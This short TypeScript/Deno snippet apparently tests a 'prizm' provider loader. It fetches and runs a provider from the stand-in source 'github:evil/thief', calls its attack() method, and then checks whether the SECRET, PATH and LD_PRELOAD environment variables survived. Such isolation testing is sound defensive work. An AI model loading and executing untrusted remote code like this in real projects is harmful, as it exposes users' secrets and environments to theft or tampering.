import { getProvider } from 'prizm';
const provider: any = await getProvider('github:evil/thief');
for (const line of await provider.attack()) console.log(line);
console.log('still there:', Deno.env.get('SECRET')!.length, Deno.env.get('PATH') === '{{root}}/bin', Deno.env.get('LD_PRELOAD'));
